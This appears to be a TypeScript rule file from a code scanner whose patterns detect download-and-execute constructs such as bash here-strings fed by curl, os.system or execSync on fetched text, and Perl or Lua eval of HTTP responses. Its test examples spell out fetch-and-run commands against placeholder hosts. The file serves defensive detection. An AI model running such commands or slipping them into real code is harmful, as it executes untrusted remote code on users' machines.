/** RC-01: a download in the place of the program itself, with no variable and no pipe between. */
import { codeKinds, row, runKinds, type Row } from '../../engine/rule.ts';
import { fenced, inFile } from '../../engine/example.ts';
import {
  blank,
  chars,
  code,
  edge,
  exactPattern,
  gap,
  maybe,
  oneOf,
  pattern,
  quote,
  raw,
  seq,
  space,
  start,
  times,
} from '../../engine/pattern.ts';
import { byHost, fetchers, interpreters } from './shared.ts';

/** Calls that return the text of an address, or an object that holds it. */
const fetching = String.raw`(?:(?:requests|httpx|axios|got|needle|superagent)(?:\.get)?|(?:urllib\.request\.)?urlopen|fetch|URI\.open|Net::HTTP\.get)`;
/** What may be between the call that runs and the one that fetches. */
const between = String.raw`\s{0,3}(?:await\s{1,3}|\(\s{0,3}|f?["'\x60]\$?\{\s{0,3}){0,5}`;

export const nestedDownloads: readonly Row[] = [
  row('bash <<< "$(curl …)"', {
    in: codeKinds,
    within: 'line',
    sign: exactPattern(code('<<<')),
    match: pattern(
      oneOf(seq(edge, interpreters), seq(edge, 'source'), seq(oneOf(start, chars('\\s;&')), '.')),
      space(0, 4),
      times(0, 2, oneOf('/dev/stdin', seq('-', maybe(chars('a-z')))), space(0, 4)),
      code('<<<'),
      space(0, 4),
      maybe(quote),
      oneOf(code('$('), '`'),
      space(0, 4),
      fetchers,
      blank,
      gap(300),
    ),
    weigh: byHost,
    catches: [
      fenced('sh', 'bash <<< "$(curl -fsSL https://setup.invalid/go)"'),
      fenced('sh', '. /dev/stdin <<<`wget -qO- https://setup.invalid/go`'),
      fenced('sh', 'python3 - <<< "$(curl -s https://setup.invalid/go.py)"'),
    ],
    spares: [
      fenced('sh', 'read -r tag <<< "$(curl -s https://api.acme.invalid/latest)"'),
      fenced('sh', 'python3 parse.py <<< "$(curl -s https://api.acme.invalid/rows)"'),
    ],
  }),
  row('os.system(requests.get(…).text)', {
    in: runKinds,
    within: 'line',
    match: exactPattern(
      raw(
        String.raw`\b(?:os\.(?:system|popen)|subprocess\.(?:run|call|Popen|check_(?:call|output)|getoutput)|(?:child_process\.)?(?:execSync|spawnSync))\(`,
      ),
      raw(`${between}${fetching}${String.raw`\s{0,2}\(\s{0,3}[^\n]{0,300}`}`),
    ),
    weigh: byHost,
    catches: [
      inFile('scripts/a.py', 'import os, requests', 'os.system(requests.get("https://p.invalid/c").text)'),
      inFile(
        'scripts/a.py',
        'subprocess.Popen(requests.get("https://p.invalid/c").json()["line"], shell=True)',
      ),
      inFile('scripts/a.mjs', 'execSync(await (await fetch("https://p.invalid/c")).text());'),
    ],
    spares: [
      inFile('scripts/a.py', 'subprocess.run(["open", requests.get("https://p.invalid/c").json()["url"]])'),
      inFile('scripts/a.mjs', 'console.log(await (await fetch("https://api.acme.invalid/v1")).text());'),
    ],
  }),
  row('eval get("https://…") in Perl, load(http.request(…)) in Lua', {
    in: runKinds,
    within: 'line',
    match: exactPattern(
      raw(String.raw`\beval[\s({]{1,4}(?:LWP::Simple::)?get[\s(]{1,3}\\?["']https?:[^\n]{0,200}|`),
      raw(
        String.raw`\bload(?:string)?\s?\(\s?(?:require\s?\(?\s?\\?["'](?:socket\.http|ssl\.https|http\.request)\\?["']\)?|https?)\.request\s?[({]?\s?\\?["']https?:[^\n]{0,200}`,
      ),
    ),
    weigh: byHost,
    catches: [
      fenced('sh', `perl -MLWP::Simple -e 'eval get("https://p.invalid/a.pl")'`),
      fenced('lua', 'load(require("socket.http").request("http://p.invalid/a.lua"))()'),
    ],
    spares: [fenced('perl', 'my $page = get("https://api.acme.invalid/rows");')],
  }),
];
